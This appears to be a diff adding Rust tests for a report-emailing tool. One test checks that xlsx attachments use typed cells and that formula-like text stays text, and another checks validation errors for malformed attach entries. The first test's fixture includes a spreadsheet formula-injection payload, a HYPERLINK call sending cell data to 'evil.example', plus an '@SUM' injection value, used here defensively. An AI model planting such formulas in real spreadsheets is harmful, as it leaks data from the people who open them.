@@ -485,3 +485,113 @@ fn a_timestamp_no_calendar_can_show_is_flagged_in_data_health_not_a_failed_run()
     let text = p.read("archive/weekly-leadership/2026-W47.preview/report.txt");
     assert!(text.contains("out of range: ordered_at before 1900 or after 2200"), "the report lists it under data health:\n{text}");
 }
+
+#[test]
+fn an_xlsx_attachment_has_typed_cells_and_lake_text_never_becomes_a_formula() {
+    let server = SmtpServer::start(Options::default());
+    let p = daily(server.port);
+    p.file(
+        "jobs/daily.toml",
+        &format!(
+            "{}attach = [{{ result = \"totals\", format = \"xlsx\" }}]\n",
+            p.read("jobs/daily.toml").replace("to = [\"a@example.com\", \"b@example.com\"]", "to = [\"a@example.com\"]")
+        ),
+    );
+    p.file(
+        "queries/totals.sql",
+        "-- pareto: format score=number:1\n\
+         SELECT name, CAST(amount AS DECIMAL(10, 2)) AS revenue, share, score, DATE '2026-11-16' AS day,\n\
+         TIMESTAMP '2026-11-16 08:30:00' AS seen_at, n AS orders, n > 1 AS repeat\nFROM (VALUES\n  \
+         ('=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")', 1234.5, 0.25, 4.25, 1),\n  \
+         ('Bell' || chr(7) || ' Co', -20, 0.125, 3.0, 2),\n  \
+         ('@SUM(1+1)', NULL, NULL, NULL, 3)\n) AS t(name, amount, share, score, n)\nWHERE EXISTS (SELECT 1 FROM orders)\n",
+    );
+    p.file("templates/simple.html.hbs", "<p>{{results.totals.row_count}}</p>\n");
+    p.file("templates/simple.txt.hbs", "{{results.totals.row_count}}\n");
+    p.run(&["run", "daily", "--as-of", "2026-11-17"]).expect(0);
+
+    let got = server.received();
+    let msg = MessageParser::default().parse(&got[0].raw).unwrap();
+    let a = msg.attachments().next().unwrap();
+    assert_eq!(a.attachment_name(), Some("totals-2026-11-16.xlsx"));
+    assert_eq!(
+        a.content_type().map(|c| format!("{}/{}", c.ctype(), c.subtype().unwrap_or_default())).as_deref(),
+        Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+    );
+    // What was sent is what the archive keeps.
+    let archived = p.path("archive/daily/2026-11-16/results/totals.xlsx");
+    assert_eq!(std::fs::read(&archived).unwrap(), a.contents());
+
+    let x = crate::support::read_xlsx(&archived);
+    assert_eq!(x["sheet"], "totals");
+    assert_eq!(x["freeze"], "A2");
+    assert_eq!(x["filter"], "A1:H4");
+    assert_eq!(x["bold"], serde_json::json!([true, true, true, true, true, true, true, true]));
+    let money = "\"€\"#,##0.00;-\"€\"#,##0.00";
+    assert_eq!(
+        x["rows"],
+        serde_json::json!([
+            [
+                ["name", "s", "General"],
+                ["revenue", "s", "General"],
+                ["share", "s", "General"],
+                ["score", "s", "General"],
+                ["day", "s", "General"],
+                ["seen_at", "s", "General"],
+                ["orders", "s", "General"],
+                ["repeat", "s", "General"]
+            ],
+            // Formula-like text is a text cell, not a formula (type s, not f), kept whole.
+            [
+                ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "s", "General"],
+                [1234.5, "n", money],
+                [0.25, "n", "0.0%"],
+                [4.25, "n", "#,##0.0"],
+                ["2026-11-16T00:00:00", "d", "yyyy-mm-dd"],
+                ["2026-11-16T08:30:00", "d", "yyyy-mm-dd hh:mm"],
+                [1, "n", "#,##0"],
+                [false, "b", "General"]
+            ],
+            // A control character (which XML cannot hold) becomes a space.
+            [
+                ["Bell  Co", "s", "General"],
+                [-20, "n", money],
+                [0.125, "n", "0.0%"],
+                [3, "n", "#,##0.0"],
+                ["2026-11-16T00:00:00", "d", "yyyy-mm-dd"],
+                ["2026-11-16T08:30:00", "d", "yyyy-mm-dd hh:mm"],
+                [2, "n", "#,##0"],
+                [true, "b", "General"]
+            ],
+            [
+                ["@SUM(1+1)", "s", "General"],
+                [null, "n", "General"],
+                [null, "n", "General"],
+                [null, "n", "General"],
+                ["2026-11-16T00:00:00", "d", "yyyy-mm-dd"],
+                ["2026-11-16T08:30:00", "d", "yyyy-mm-dd hh:mm"],
+                [3, "n", "#,##0"],
+                [true, "b", "General"]
+            ]
+        ])
+    );
+}
+
+#[test]
+fn a_bad_attach_entry_is_named_by_check() {
+    let p = daily(crate::support::closed_port());
+    let job = p.read("jobs/daily.toml");
+    p.file("jobs/daily.toml", &format!("{job}attach = [{{ result = \"totals\", format = \"pdf\" }}, {{ reslt = \"totals\" }}, 3]\n"));
+    let out = p.run(&["check"]);
+    out.expect(2);
+    assert_eq!(
+        out.stdout,
+        "\
+jobs/daily.toml:9:11: `attach`: format \"pdf\" is not one of \"csv\", \"xlsx\"
+jobs/daily.toml:9:50: `attach`: unknown key `reslt`; an entry is `{ result = \"exit_list\", format = \"xlsx\" }`
+jobs/daily.toml:9:50: `attach`: name the result to attach, as `result = \"exit_list\"`
+jobs/daily.toml:9:72: `attach`: 3 is neither a result's name nor `{ result = \"exit_list\", format = \"xlsx\" }`
+4 problem(s) found
+"
+    );
+}
